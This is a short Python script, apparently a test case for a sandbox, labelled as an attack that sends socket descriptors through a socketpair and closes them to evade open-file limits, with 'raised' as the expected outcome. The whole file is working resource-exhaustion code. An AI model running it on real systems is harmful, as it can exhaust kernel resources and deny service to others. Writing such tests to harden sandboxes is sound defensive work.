# attack: sends sockets through sockets and closes them, so that no limit of open files counts them
# earns: any
# outcome: raised
import socket

carrier = socket.socketpair()
for end in carrier:
    end.setblocking(False)
sent = 0
while sent < 100_000:
    inner = socket.socketpair()
    socket.send_fds(carrier[0], [b"x"], [end.fileno() for end in inner] * 100)
    for end in inner:
        end.close()
    carrier, sent = (inner if sent % 5000 == 0 and sent else carrier), sent + 200
print("got through")
